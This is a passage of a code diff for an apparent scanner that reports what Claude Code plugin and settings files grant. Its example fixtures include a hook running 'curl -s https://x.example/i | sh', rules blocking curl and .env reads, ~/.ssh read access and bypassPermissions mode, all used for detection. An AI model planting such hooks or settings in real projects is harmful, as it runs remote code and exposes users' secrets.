+			pluginRoot: text$1(get(get(root, "metadata"), "pluginRoot")),
+			readParts: readManifestParts
+		};
+		return combine$1(...items(get(root, "plugins")).map((entry) => readMarketplaceEntry(entry, place)));
+	},
+	sample: { path: ".claude-plugin/marketplace.json" },
+	examples: marketplaceExamples
+});
 // src/powers/examples/claude-plugin.ts
 const path$3 = "p/.claude-plugin/plugin.json";
-const example$15 = exampleWriter((manifest) => ({ [path$3]: `${JSON.stringify({
+const example$11 = exampleWriter((manifest) => ({ [path$3]: `${JSON.stringify({
 	name: "p",
 	...manifest
 })}\n` }));
 const moreHooks = { "p/config/more.json": "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"from-file.sh\"}]}]}}\n" };
-const pluginExamples = [
-	exampleOf$1("run", "curl -s https://x.example/i | sh", [
-		{ [path$3]: "{\"name\": \"p\", \"hooks\": {\"SessionStart\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"curl -s https://x.example/i | sh\"}]}]}}\n" },
-		{ [path$3]: "{\"name\": \"p\"}\n" },
-		{ [path$3]: "{\"hooks\": {\"SessionStart\": [{\"matcher\": \"*\", \"hooks\": [{\"command\": \"curl -s https://x.example/i | sh\", \"type\": \"command\"}]}]}, \"name\": \"p\"}\n" }
-	]),
-	exampleOf$1("run", "from-file.sh", [
-		{
-			[path$3]: "{\"name\": \"p\", \"hooks\": [\"./config/more.json\"]}\n",
-			...moreHooks
-		},
-		{
-			[path$3]: "{\"name\": \"p\"}\n",
-			...moreHooks
-		},
-		{
-			[path$3]: "{\"hooks\": \"config/more.json\", \"name\": \"p\"}\n",
-			...moreHooks
-		}
-	]),
-	exampleOf$1("mcp", "npx -y helper-mcp@latest", [{ [path$3]: "{\"name\": \"p\", \"mcpServers\": {\"helper\": {\"command\": \"npx\", \"args\": [\"-y\", \"helper-mcp@latest\"]}}}\n" }, { [path$3]: "{\"name\": \"p\", \"mcpServers\": {}}\n" }]),
-	example$15("run", "gopls serve", [
-		{ lspServers: { go: {
-			command: "gopls",
-			args: ["serve"],
-			extensionToLanguage: { ".go": "go" }
-		} } },
-		{},
-		{ lspServers: { go: {
-			extensionToLanguage: { ".go": "go" },
-			args: ["serve"],
-			command: "gopls"
-		} } }
-	]),
-	example$15("run", "tail -f log", [
-		{ experimental: { monitors: [{
-			name: "log",
-			command: "tail -f log",
-			description: "Log."
-		}] } },
-		{},
-		{ monitors: [{
-			name: "log",
-			command: "tail -f log",
-			description: "Logs.",
-			when: "always"
-		}] }
-	]),
-	example$15("install", "plugin helper", [
-		{ dependencies: [{
-			name: "helper",
-			version: "1.2.3"
-		}] },
-		{ dependencies: [] },
-		{ dependencies: [{
-			version: "1.2.3",
-			name: "helper"
-		}] }
-	]),
-	example$15("secret", "userConfig.key", [{ userConfig: { key: {
-		type: "string",
-		title: "Key",
-		description: "Key.",
-		sensitive: true
-	} } }, { userConfig: { key: {
-		type: "string",
-		title: "Key",
-		description: "Key."
-	} } }]),
-	example$15("mcp", "chat", [{ channels: [{ server: "chat" }] }, { channels: [] }]),
-	example$15("guard", "defaultEnabled: false", [{ defaultEnabled: false }, { defaultEnabled: true }])
-];
 // src/powers/carriers/claude-plugin.ts
-const known$15 = new Set(manifestKeys);
-const claudePlugin = {
+const claudePlugin = tableCarrier({
 	id: "claude-plugin",
-	title: "`.claude-plugin/plugin.json`",
+	paths: [".claude-plugin/plugin.json"],
 	client: "Claude Code",
-	extensions: ["json"],
+	format: "json",
+	consequence: "Claude Code does not load the plugin",
 	isCheckedElsewhere: true,
-	fields: [
-		{
-			field: "hooks",
-			kind: "run",
-			description: "as in `hooks/hooks.json`, or the path of such a file"
-		},
-		{
-			field: "mcpServers",
-			kind: "mcp",
-			description: "as in `.mcp.json`, or the path of such a file"
-		},
-		{
-			field: "lspServers",
-			kind: "run",
-			description: "as in `.lsp.json`, or the path of such a file"
-		},
-		{
-			field: "experimental.monitors, monitors",
-			kind: "run",
-			description: "as in `monitors/monitors.json`, or the path of such a file"
-		},
-		{
-			field: "dependencies[]",
-			kind: "install",
-			description: "installs and enables another plugin"
-		},
-		{
-			field: "userConfig.<name>.sensitive",
-			kind: "secret",
-			description: "asks the user for a secret and gives it to hooks and servers"
-		},
-		{
-			field: "channels[].server",
-			kind: "mcp",
-			description: "sends messages of the server to the model"
-		},
-		{
-			field: "defaultEnabled",
-			kind: "guard",
-			description: "false: the plugin starts disabled"
-		}
-	],
+	rows: manifestRows,
 	unitOf(path) {
 		const folder = folderOf(path);
 		return nameOf$3(path) === "plugin.json" && nameOf$3(folder) === ".claude-plugin" ? {
@@ -15082,130 +16156,84 @@ const claudePlugin = {
 			root: folderOf(folder)
 		} : null;
 	},
-	read({ path, text: written, unit }) {
-		const { root, faults } = readJson(path, written, { consequence: "Claude Code does not load the plugin" });
-		if (root?.kind !== "table") return combine$1({ faults });
-		return combine$1({
-			name: text$1(get(root, "name")),
-			version: source(get(root, "version"))
-		}, { unread: unreadFields(root, known$15) }, readManifestParts(root, unit));
-	},
-	examples: pluginExamples
-};
-// src/powers/examples/claude-settings.ts
-const path$2 = ".claude/settings.json";
-function example$14(kind, scope, [granting, without, ...equivalents]) {
-	const file = (settings) => ({ [path$2]: `${JSON.stringify(settings)}\n` });
-	const spellings = equivalents.map((settings) => ({ [path$2]: `${JSON.stringify(settings, null, 2)}\n` }));
-	return {
-		kind,
-		scope,
-		granting: file(granting),
-		without: file(without),
-		equivalents: spellings
-	};
-}
-const permissions = (value) => ({ permissions: value });
-const sandbox$2 = (value) => ({ sandbox: value });
-const settingsExamples = [
-	example$14("approve", "Bash(git *)", [
-		permissions({ allow: ["Read", "Bash(git *)"] }),
-		permissions({ allow: ["Read"] }),
-		permissions({ allow: [
-			"Bash(git:*)",
-			"Read",
-			"Read"
-		] })
-	]),
-	example$14("guard", "Read(./.env)", [
-		permissions({ deny: ["Read(./.env)", "Bash(curl *)"] }),
-		permissions({ deny: ["Bash(curl *)"] }),
-		permissions({ deny: ["Bash(curl:*)", "Read(./.env)"] })
-	]),
-	example$14("guard", "Bash(git push *)", [permissions({ ask: ["Bash(git push *)"] }), permissions({ ask: [] })]),
-	example$14("approve", "bypassPermissions", [permissions({ defaultMode: "bypassPermissions" }), permissions({ defaultMode: "acceptEdits" })]),
-	example$14("approve", "acceptEdits", [permissions({ defaultMode: "acceptEdits" }), permissions({ defaultMode: "default" })]),
-	example$14("guard", "plan", [permissions({ defaultMode: "plan" }), permissions({})]),
-	example$14("write", "../docs/", [
-		permissions({ additionalDirectories: ["../docs"] }),
-		permissions({ additionalDirectories: ["../docs/api"] }),
-		permissions({ additionalDirectories: ["../docs/", "../docs/api/../api"] })
-	]),
-	example$14("run", "make lint", [
-		{ hooks: { PostToolUse: [{
-			matcher: "Edit|Write",
-			hooks: [{
-				type: "command",
-				command: "make lint"
-			}]
-		}] } },
-		{ hooks: {} },
-		{ hooks: { PostToolUse: [{
-			hooks: [{
-				command: "make lint",
-				type: "command"
-			}],
-			matcher: "Write|Edit"
-		}] } }
-	]),
-	example$14("run", "./key.sh", [
-		{ apiKeyHelper: "./key.sh" },
-		{},
-		{ apiKeyHelper: " ./key.sh " }
-	]),
-	example$14("run", "./status.sh", [{ statusLine: {
-		type: "command",
-		command: "./status.sh"
-	} }, {}]),
-	example$14("settings", "ANTHROPIC_BASE_URL=https://x.example", [
-		{ env: {
-			ANTHROPIC_BASE_URL: "https://x.example",
-			NO_COLOR: "1"
-		} },
-		{ env: { NO_COLOR: "1" } },
-		{ env: { ANTHROPIC_BASE_URL: "https://x.example" } }
-	]),
-	example$14("settings", "tool@market", [{ enabledPlugins: { "tool@market": true } }, { enabledPlugins: { "tool@market": false } }]),
-	example$14("install", "github acme/plugins", [
-		{ extraKnownMarketplaces: { acme: { source: {
-			source: "github",
-			repo: "acme/plugins"
-		} } } },
-		{},
-		{ extraKnownMarketplaces: { acme: { source: {
-			repo: "acme/plugins",
-			source: "github"
-		} } } }
-	]),
-	example$14("approve", "every server", [
-		{ enableAllProjectMcpServers: true },
-		{ enabledMcpjsonServers: ["docs"] },
-		{
-			enabledMcpjsonServers: ["docs"],
-			enableAllProjectMcpServers: true
-		}
-	]),
-	example$14("guard", "skillOverrides.deploy: off", [{ skillOverrides: { deploy: "off" } }, { skillOverrides: { deploy: "name-only" } }]),
-	example$14("guard", "disableAllHooks: true", [{ disableAllHooks: true }, {}]),
-	example$14("guard", "sandbox.enabled: true", [sandbox$2({ enabled: true }), sandbox$2({ enabled: false })]),
-	example$14("run", "docker *", [sandbox$2({
-		enabled: true,
-		excludedCommands: ["docker *"]
-	}), sandbox$2({ enabled: true })]),
-	example$14("write", "~/.cache/", [
-		sandbox$2({ filesystem: { allowWrite: ["~/.cache"] } }),
-		sandbox$2({ filesystem: { allowWrite: ["~/.cache/x"] } }),
-		sandbox$2({ filesystem: { allowWrite: ["~/.cache/"] } })
-	]),
-	example$14("read", "~/.ssh/", [sandbox$2({ filesystem: { allowRead: ["~/.ssh"] } }), sandbox$2({})]),
-	example$14("net", "x.example", [
-		sandbox$2({ network: { allowedDomains: ["x.example"] } }),
-		sandbox$2({ network: { allowedDomains: [] } }),
-		sandbox$2({ network: { allowedDomains: ["X.example"] } })
-	]),
-	example$14("delegate", "deployer", [{ agent: "deployer" }, {}]),
-	example$14("settings", "outputStyle: \"Terse\"", [{ outputStyle: "Terse" }, {}])
-];
+	readWhole: (root, { unit }) => combine$1({
+		name: text$1(get(root, "name")),
+		version: source(get(root, "version"))
+	}, readManifestParts(root, unit)),
+	sample: { path: "p/.claude-plugin/plugin.json" },
+	examples: [
+		exampleOf$1("run", "curl -s https://x.example/i | sh", [
+			{ [path$3]: "{\"name\": \"p\", \"hooks\": {\"SessionStart\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"curl -s https://x.example/i | sh\"}]}]}}\n" },
+			{ [path$3]: "{\"name\": \"p\"}\n" },
+			{ [path$3]: "{\"hooks\": {\"SessionStart\": [{\"matcher\": \"*\", \"hooks\": [{\"command\": \"curl -s https://x.example/i | sh\", \"type\": \"command\"}]}]}, \"name\": \"p\"}\n" }
+		]),
+		exampleOf$1("run", "from-file.sh", [
+			{
+				[path$3]: "{\"name\": \"p\", \"hooks\": [\"./config/more.json\"]}\n",
+				...moreHooks
+			},
+			{
+				[path$3]: "{\"name\": \"p\"}\n",
+				...moreHooks
+			},
+			{
+				[path$3]: "{\"hooks\": \"config/more.json\", \"name\": \"p\"}\n",
+				...moreHooks
+			}
+		]),
+		exampleOf$1("mcp", "npx -y helper-mcp@latest", [{ [path$3]: "{\"name\": \"p\", \"mcpServers\": {\"helper\": {\"command\": \"npx\", \"args\": [\"-y\", \"helper-mcp@latest\"]}}}\n" }, { [path$3]: "{\"name\": \"p\", \"mcpServers\": {}}\n" }]),
+		example$11("run", "gopls serve", [
+			{ lspServers: { go: {
+				command: "gopls",
+				args: ["serve"],
+				extensionToLanguage: { ".go": "go" }
+			} } },
+			{},
+			{ lspServers: { go: {
+				extensionToLanguage: { ".go": "go" },
+				args: ["serve"],
+				command: "gopls"
+			} } }
+		]),
+		example$11("run", "tail -f log", [
+			{ experimental: { monitors: [{
+				name: "log",
+				command: "tail -f log",
+				description: "Log."
+			}] } },
+			{},
+			{ monitors: [{
+				name: "log",
+				command: "tail -f log",
+				description: "Logs.",
+				when: "always"
+			}] }
+		]),
+		example$11("install", "plugin helper", [
+			{ dependencies: [{
+				name: "helper",
+				version: "1.2.3"
+			}] },
+			{ dependencies: [] },
+			{ dependencies: [{
+				version: "1.2.3",
+				name: "helper"
+			}] }
+		]),
+		example$11("secret", "userConfig.key", [{ userConfig: { key: {
+			type: "string",
+			title: "Key",
+			description: "Key.",
+			sensitive: true
+		} } }, { userConfig: { key: {
+			type: "string",
+			title: "Key",
+			description: "Key."
+		} } }]),
+		example$11("mcp", "chat", [{ channels: [{ server: "chat" }] }, { channels: [] }]),
+		example$11("guard", "defaultEnabled: false", [{ defaultEnabled: false }, { defaultEnabled: true }])
+	]
+});
 // src/model/value/redact-value.ts
 const redacted = "[redacted]";
 const descriptiveKeys$2 = new Set(wordList(`
@@ -15262,18 +16290,11 @@ function mapValues(value, map) {
 	return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, map(key, inner)]));
 }
 // src/powers/settings/environment.ts
-function readEnvironment(field) {
-	if (!field) return combine$1();
-	if (field.value.kind !== "table") return combine$1({ faults: [{
-		...wrongType("env", field.value, {
-			expected: "a mapping of variables",
-			consequence: "Claude Code does not use it"
-		}),
-		isUnreadable: true
-	}] });
-	return combine$1(...fields(field.value).map(readVariable));
-}
-function readVariable({ key, value }) {
+const environmentRows$1 = grants$1("settings", "env.<name>", "sets variables for the client and its commands", {
+	read: readVariable$1,
+	example: { env: { ANTHROPIC_BASE_URL: "https://x.example" } }
+});
+function readVariable$1({ key, value }) {
 	const written = source(value);
 	const { at } = value;
 	if (written === void 0) return { faults: [grantFault(msg`Variable ${code$1(key)} is ${shownValue(value)}, not a string.`, at)] };
@@ -15302,27 +16323,37 @@ const harmless = new Set(wordList(`
   CLAUDE_CODE_DISABLE_TERMINAL_TITLE CLAUDE_BASH_MAINTAIN_PROJECT_WORKING_DIR NO_COLOR FORCE_COLOR
   TZ LANG CI
 `));
-// src/powers/settings/keys.ts
-const ignoredKeys = [
-	"autoMode",
-	"processWrapper",
-	"skipDangerousModePermissionPrompt",
-	"pluginConfigs"
-];
-const settingsKeys = new Set([...ignoredKeys, ...wordList(`
-  permissions hooks env sandbox agent outputStyle $schema apiKeyHelper awsAuthRefresh
-  awsCredentialExport gcpAuthRefresh otelHeadersHelper statusLine subagentStatusLine
-  fileSuggestion enabledPlugins extraKnownMarketplaces enableAllProjectMcpServers
-  enabledMcpjsonServers disabledMcpjsonServers skillOverrides disableAllHooks
-  disableSkillShellExecution model effortLevel alwaysThinkingEnabled availableModels fastMode
-  language cleanupPeriodDays includeCoAuthoredBy attribution includeGitInstructions
-  spinnerTipsEnabled spinnerTipsOverride spinnerVerbs companyAnnouncements plansDirectory
-  respectGitignore showTurnDuration terminalProgressBarEnabled prefersReducedMotion theme verbose
-  autoUpdatesChannel teammateMode feedbackSurveyRate forceLoginMethod forceLoginOrgUUID worktree
-  voiceEnabled
-  `)]);
+// src/powers/settings/for-people.ts
+const settingsForPeople = `
+  $schema advisorModel agentPushNotifEnabled allowClaudeInChromeWithManagedMcp
+  allowNestedModelAccessUnderForceLogin alwaysThinkingEnabled askUserQuestionTimeout attribution
+  attributionProject attributionProjectPolicy autoCompactEnabled autoCompactOfferAnswer
+  autoCompactRaisedForLoad autoCompactWindow autoContinueAtUsageLimit autoDreamEnabled
+  autoMemoryDirectory autoMemoryEnabled autoScrollEnabled autoUpdatesChannel availableModels
+  awaySummaryEnabled axScreenReader bashEditDiffEnabled bashOutputMaxChars breakReminder
+  clawdFileProgressEnabled cleanupPeriodDays companyAnnouncements daemonColdStart defaultShell
+  defaultView desktopMcpServersListScope desktopSessionCleanupPeriodDays dialogExpiry disableArtifact
+  disableDeepLinkRegistration disableReplyCheck disableWindowsBashCommandSplit editorMode effortLevel
+  emojiCompletionEnabled enableArtifact enableWorkflows enforceAvailableModels fallbackModel fastMode
+  fastModePerSessionOptIn feedbackDrafts feedbackSurveyRate fileCheckpointingEnabled
+  footerLinksRegexes forceLoginMethod forceLoginOrgUUID idleCompaction includeCoAuthoredBy
+  includeGitInstructions inputNeededNotifEnabled keybindingFlavor language maxEffortLevel
+  maxProseWidth minimumVersion model modelOverrides modelPicker modelPricing modelProposedGoals
+  modelSettings plansDirectory prUrlTemplate precomputeArmTokens precomputeCompactionEnabled
+  preferredNotifChannel prefersReducedMotion promptCacheTtl promptSuggestionEnabled quietHours
+  remoteMessageReceipts respectGitignore respondToBashCommands responseComparisonEnabled
+  showClearContextOnPlanAccept showMessageTimestamps showThinkingSummaries showTurnDuration
+  skillListingBudgetFraction skillListingMaxDescChars skipWorkflowUsageWarning spellcheck
+  spinnerTipsEnabled spinnerTipsOverride spinnerVerbs subagentPromptCacheTtl switchModelsOnFlag
+  syntaxHighlightingDisabled taskOutputMaxChars teammateMode terminalProgressBarEnabled
+  terminalTitleFromRename theme timeFormat timeZone todoFeatureEnabled totalTokensReminder
+  totalTokensReminderAfterUserTurn totalTokensReminderBudget tui ultracode verbose viewMode
+  vimInsertModeRemaps voice voiceEnabled wheelScrollAccelerationEnabled
+  workflowKeywordTriggerEnabled workflowSizeGuideline
+  worktree.symlinkDirectories worktree.sparsePaths worktree.baseRef worktree.location
+`;
 // src/powers/support/any-command.ts
-const launchers = new Set(wordList(`
+const launchers$1 = new Set(wordList(`
   npx bunx pnpx uvx pipx sh bash zsh dash fish pwsh powershell python python3 node bun deno perl
   ruby php env eval exec xargs sudo ssh direnv devbox mise docker podman kubectl
 `));
@@ -15349,7 +16380,7 @@ function startsAnyCommand(rule) {
 	const [program, second, third] = command.trim().split(/\s+/);
 	const name = programName(program);
 	if (name === "") return true;
-	if (!launchers.has(name)) return false;
+	if (!launchers$1.has(name)) return false;
 	const words = Object.hasOwn(subcommands, name) ? subcommands[name] : void 0;
 	if (!words) return second === void 0 || second.startsWith("-") && third === void 0;
 	return second === void 0 || words.has(second) && third === void 0;
@@ -15367,7 +16398,6 @@ const permissiveModes = {
 };
 const restrictiveModes = new Set(["plan", "dontAsk"]);
 function readMode(field) {
-	if (!field) return {};
 	const { at } = field.value;
 	const mode = text$1(field.value);
 	if (mode === void 0) return { faults: [{
@@ -15412,43 +16442,58 @@ function readMode(field) {
 	};
 }
 // src/powers/settings/permissions.ts
-function readPermissions(value) {
-	if (!value) return combine$1();
-	if (value.kind !== "table") return combine$1({ faults: [{
-		...wrongType("permissions", value, {
-			expected: "a mapping",
-			consequence: "Claude Code does not use it"
+const permissionRows$1 = within("permissions", [
+	...grants$1("approve", "allow", "allows the tools without asking", {
+		read: rules$6("allow"),
+		example: { permissions: { allow: ["Read", "Bash(git *)"] } }
+	}),
+	...grants$1("guard", "deny", "limits the tools", {
+		read: rules$6("deny"),
+		example: { permissions: { deny: ["Read(./.env)", "Bash(curl *)"] } }
+	}),
+	...grants$1("guard", "ask", "limits the tools", {
+		read: rules$6("ask"),
+		example: { permissions: { ask: ["Bash(git push *)"] } }
+	}),
+	...grants$1("approve", "defaultMode", "`acceptEdits`, `bypassPermissions`: asks less; `plan`, `dontAsk`: limits", {
+		read: readMode,
+		example: { permissions: { defaultMode: "bypassPermissions" } }
+	}),
+	...grants$1("write", "additionalDirectories", "reads and writes the folders", {
+		read: folders$1("write", {
+			feature: "permission-rule",
+			remark: "reads them too"
 		}),
-		isUnreadable: true
-	}] });
-	return combine$1(readRules(value, "allow"), readRules(value, "deny"), readRules(value, "ask"), readMode(value.fields.get("defaultMode")), readFolders(get(value, "additionalDirectories")), offSwitch(value.fields.get("disableBypassPermissionsMode"), "permissions.", "disable"), offSwitch(value.fields.get("disableAutoMode"), "permissions.", "disable"), { unread: unreadFields(value, known$14, "permissions.") });
-}
-const known$14 = new Set([
-	"allow",
-	"deny",
-	"ask",
-	"defaultMode",
-	"additionalDirectories",
-	"disableBypassPermissionsMode",
-	"disableAutoMode"
+		example: { permissions: { additionalDirectories: ["../docs"] } }
+	}),
+	...grants$1("guard", "disableBypassPermissionsMode", "takes the mode away", {
+		read: off("disable"),
+		example: { permissions: { disableBypassPermissionsMode: "disable" } }
+	}),
+	...grants$1("guard", "disableAutoMode", "takes the mode away", { read: off("disable") }),
+	...grants$1("guard", "blockReadsOutsideWorkingDirectories, blockWritesOutsideWorkingDirectories", "limits the tools to the working folders", {
+		read: off(true),
+		example: { permissions: { blockReadsOutsideWorkingDirectories: true } }
+	}),
+	...harmless$1("denyInsteadOfPrompting")
 ]);
-function readRules(permissions, list) {
-	const value = get(permissions, list);
-	if (!value) return combine$1();
-	const rules = value.kind === "list" ? stringsOf(value) : null;
-	if (!rules) return combine$1({ faults: [{
-		...wrongType(`permissions.${list}`, value, {
-			expected: "a list of rules",
-			consequence: "Claude Code does not use it"
-		}),
-		isUnreadable: true
-	}] });
-	return combine$1(...rules.map(({ text: rule, at }) => readRule(rule.trim(), at, list)));
+function rules$6(list) {
+	return ({ value }, { name, client }) => {
+		const entries = value.kind === "list" ? stringsOf(value) : null;
+		if (entries) return combine$1(...entries.map(({ text, at }) => readRule$1(text.trim(), at, list)));
+		return { faults: [{
+			...wrongType(name, value, {
+				expected: "a list of rules",
+				consequence: `${client} does not use it`
+			}),
+			isUnreadable: true
+		}] };
+	};
 }
-function readRule(rule, at, list) {
+function readRule$1(rule, at, list) {
 	const dead = deadRuleOf(rule, list);
-	if (dead) return { faults: [grantFault(dead.message, at, dead.help)] };
-	const scope = normalizeRule(rule);
+	if (dead) return { faults: [guardFault(grantFault(dead.message, at, dead.help), list !== "allow")] };
+	const scope = normalizeTool(rule);
 	return { grants: [{
 		kind: list === "allow" ? "approve" : "guard",
 		feature: "permission-rule",
@@ -15472,58 +16517,39 @@ function deadRuleOf(rule, list) {
 		help: msg`Write a tool such as ${code$1("Bash(git *)")}.`
 	};
 }
-function readFolders(value) {
-	if (!value) return {};
-	const folders = stringsOf(value);
-	if (!folders || text$1(value) !== void 0) return { faults: [{
-		...wrongType("permissions.additionalDirectories", value, {
-			expected: "a list of folders",
-			consequence: "Claude Code does not use it"
-		}),
-		isUnreadable: true
-	}] };
-	const base = {
-		kind: "write",
-		feature: "permission-rule",
-		remark: "reads them too",
-		subject: "permissions.additionalDirectories",
-		trigger: always$1
-	};
-	return { grants: folders.map((folder) => folderGrant(folder, base)) };
-}
 // src/powers/settings/plugins.ts
-const consequence = "Claude Code does not use it";
-function readEnabledPlugins(field) {
-	if (!field) return combine$1();
-	if (field.value.kind !== "table") {
-		const expected = {
-			expected: "a mapping of plugins",
-			consequence
-		};
-		return combine$1({ faults: [wrongType("enabledPlugins", field.value, expected)] });
-	}
-	return combine$1(...fields(field.value).map(({ key, value }) => {
-		if (flag$1(value) === false || value.kind === "null") return {};
-		return { grants: [settingGrant(`plugin ${key}`, `enabledPlugins: ${key}`, { at: value.at })] };
-	}));
+const pluginRows$1 = [...grants$1("settings", "enabledPlugins.<plugin>", "enables the plugin", {
+	read: readEnabledPlugin,
+	example: { enabledPlugins: { "tool@market": true } }
+}), ...["extraKnownMarketplaces", "additionalMarketplaces"].flatMap((key) => [
+	...grants$1("install", `${key}.<name>`, "offers plugins of the source", {
+		read: readMarketplace,
+		example: { [key]: { acme: { source: {
+			source: "github",
+			repo: "acme/plugins"
+		} } } }
+	}),
+	...grants$1("settings", `${key}.<name>.autoUpdate`, "updates its plugins by itself"),
+	...grants$1("run", `${key}.<name>.source.headersHelper`, "runs the command at each download", {
+		read: command$3({ start: "install" }),
+		example: { [key]: { acme: { source: {
+			source: "url",
+			url: "https://x.example",
+			headersHelper: "./h.sh"
+		} } } }
+	}),
+	...within(`${key}.<name>`, harmless$1(`
+        installLocation pluginDigests source.source source.url source.headers source.repo source.ref
+        source.sha source.path source.sparsePaths source.skipLfs source.package source.version
+        source.registry source.hostPattern source.pathPattern source.name source.plugins
+        source.owner
+      `))
+])];
+function readEnabledPlugin({ key, value }) {
+	if (flag$1(value) === false || value.kind === "null") return {};
+	return { grants: [settingGrant(`plugin ${key}`, `enabledPlugins: ${key}`, { at: value.at })] };
 }
-function readMarketplaces(field) {
-	if (!field) return combine$1();
-	if (field.value.kind !== "table") {
-		const expected = {
-			expected: "a mapping of marketplaces",
-			consequence
-		};
-		return combine$1({ faults: [wrongType("extraKnownMarketplaces", field.value, expected)] });
-	}
-	return combine$1(...fields(field.value).map(readMarketplace));
-}
-const known$13 = new Set([
-	"source",
-	"autoUpdate",
-	"installLocation"
-]);
-function readMarketplace({ key, keyAt, value }) {
+function readMarketplace({ key, keyAt, value }, { client }) {
 	const subject = `marketplace ${key}`;
 	const entry = {
 		kind: "marketplace",
@@ -15533,169 +16559,274 @@ function readMarketplace({ key, keyAt, value }) {
 	const updates = update && flag$1(update) === true ? [settingGrant(`${subject} autoUpdate`, `autoUpdate of ${subject}`, { at: update.at })] : [];
 	const source = readSource(get(value, "source"));
 	const at = get(value, "source")?.at ?? keyAt;
-	const unread = unreadFields(value, known$13, `extraKnownMarketplaces.${key}.`);
-	const expected = {
-		expected: msg`a mapping with a known ${code$1("source")}`,
-		consequence
-	};
+	const expected = msg`a mapping with a known ${code$1("source")}`;
+	const fault = wrongType(subject, get(value, "source") ?? value, {
+		expected,
+		consequence: `${client} does not use it`
+	});
 	return {
 		grants: [...sourceGrants(source, {
 			subject,
 			at,
 			entry
 		}), ...updates],
-		faults: source === void 0 ? [wrongType(subject, get(value, "source") ?? value, expected)] : [],
-		unread
+		faults: source === void 0 ? [fault] : []
 	};
 }
 // src/powers/settings/sandbox.ts
-function readSandbox(field) {
-	if (!field) return combine$1();
-	const { value } = field;
-	if (value.kind !== "table") return combine$1({ faults: [{
-		...wrongType("sandbox", value, {
-			expected: "a mapping",
-			consequence: "Claude Code does not use it"
-		}),
-		isUnreadable: true
-	}] });
-	const { fields } = value;
-	return combine$1(offSwitch(fields.get("enabled"), "sandbox.", true), offSwitch(fields.get("failIfUnavailable"), "sandbox.", true), offSwitch(fields.get("allowUnsandboxedCommands"), "sandbox.", false), offSwitch(fields.get("autoAllowBashIfSandboxed"), "sandbox.", false), ...["enableWeakerNestedSandbox", "enableWeakerNetworkIsolation"].map((key) => onSwitch(fields.get(key), "sandbox.")), listGrants(fields.get("excludedCommands"), "sandbox.", (entry, subject) => settingGrant(subject, entry.text.trim(), {
-		kind: "run",
-		at: entry.at
-	})), opaqueSetting(fields.get("credentials"), "sandbox."), readFilesystem(get(value, "filesystem")), readNetwork(get(value, "network")), { unread: unreadFields(value, known$12, "sandbox.") });
-}
-const known$12 = new Set(wordList(`
-  enabled failIfUnavailable allowUnsandboxedCommands autoAllowBashIfSandboxed
-  enableWeakerNestedSandbox enableWeakerNetworkIsolation excludedCommands credentials filesystem
-  network ignoreViolations ripgrep
-`));
-function readFilesystem(value) {
-	if (value?.kind !== "table") return combine$1();
-	const { fields } = value;
-	const prefix = "sandbox.filesystem.";
-	const folders = (key, kind) => listGrants(fields.get(key), prefix, (entry, subject) => folderGrant(entry, {
-		kind,
-		feature: "setting",
-		subject,
-		trigger: inRepository
-	}));
-	return combine$1(folders("allowWrite", "write"), folders("allowRead", "read"), folders("denyWrite", "guard"), folders("denyRead", "guard"), { unread: unreadFields(value, filesystemKeys, prefix) });
-}
-const filesystemKeys = new Set([
-	"allowWrite",
-	"allowRead",
-	"denyWrite",
-	"denyRead"
+const sandbox$2 = (value) => ({ sandbox: value });
+const filesystem = (value) => ({ sandbox: { filesystem: value } });
+const network$1 = (value) => ({ sandbox: { network: value } });
+const filesystemRows = within("filesystem", [
+	...grants$1("write", "allowWrite", "writes the folders", {
+		read: folders$1("write"),
+		example: filesystem({ allowWrite: ["~/.cache"] })
+	}),
+	...grants$1("read", "allowRead", "reads the folders", {
+		read: folders$1("read"),
+		example: filesystem({ allowRead: ["~/.ssh"] })
+	}),
+	...grants$1("settings", "disabled", "limits no folder", {
+		read: on(),
+		example: { sandbox: { filesystem: { disabled: true } } }
+	}),
+	...grants$1("guard", "denyWrite, denyRead", "limits the folders", {
+		read: folders$1("guard"),
+		example: filesystem({ denyWrite: ["./docs"] })
+	})
 ]);
-function readNetwork(value) {
-	if (value?.kind !== "table") return combine$1();
-	const { fields } = value;
-	const prefix = "sandbox.network.";
-	const hosts = (key, kind) => listGrants(fields.get(key), prefix, (entry, subject) => {
-		const host = entry.text.trim().toLowerCase();
-		return settingGrant(subject, host, {
-			kind,
-			reach: host === "*" ? "any" : "one",
-			at: entry.at
-		});
-	});
-	return combine$1(hosts("allowedDomains", "net"), hosts("allowUnixSockets", "net"), hosts("deniedDomains", "guard"), onSwitch(fields.get("allowAllUnixSockets"), prefix), onSwitch(fields.get("allowLocalBinding"), prefix), opaqueSetting(fields.get("httpProxyPort"), prefix), opaqueSetting(fields.get("socksProxyPort"), prefix), { unread: unreadFields(value, networkKeys, prefix) });
-}
-const networkKeys = new Set([
-	"allowedDomains",
-	"allowUnixSockets",
-	"deniedDomains",
-	"allowAllUnixSockets",
-	"allowLocalBinding",
-	"httpProxyPort",
-	"socksProxyPort"
+const networkRows = within("network", [
+	...grants$1("net", "allowedDomains, allowUnixSockets, allowMachLookup", "reaches the hosts", {
+		read: hosts("net"),
+		example: network$1({ allowedDomains: ["x.example"] })
+	}),
+	...grants$1("guard", "strictAllowlist", "refuses all other hosts", {
+		read: off(true),
+		example: network$1({ strictAllowlist: true })
+	}),
+	...grants$1("guard", "deniedDomains", "limits the hosts", {
+		read: hosts("guard"),
+		example: network$1({ deniedDomains: ["x.example"] })
+	}),
+	...grants$1("settings", "allowAllUnixSockets, allowLocalBinding", "reaches more", {
+		read: on(),
+		example: network$1({ allowLocalBinding: true })
+	}),
+	...grants$1("settings", "httpProxyPort, socksProxyPort, tlsTerminate", "sends requests through a proxy", {
+		read: opaque(),
+		example: { sandbox: { network: { httpProxyPort: 8080 } } }
+	})
 ]);
+const sandboxRows$1 = within("sandbox", [
+	...grants$1("guard", "enabled, failIfUnavailable", "limits what commands reach", {
+		read: off(true),
+		example: sandbox$2({ enabled: true })
+	}),
+	...grants$1("guard", "allowUnsandboxedCommands, autoAllowBashIfSandboxed", "false: limits", {
+		read: off(false),
+		example: sandbox$2({ allowUnsandboxedCommands: false })
+	}),
+	...grants$1("settings", "enableWeakerNestedSandbox, enableWeakerNetworkIsolation", "limits less", {
+		read: on(),
+		example: sandbox$2({ enableWeakerNestedSandbox: true })
+	}),
+	...grants$1("run", "excludedCommands", "runs outside the sandbox", {
+		read: each(({ text, at }, { name }) => settingGrant(name, text.trim(), {
+			kind: "run",
+			at
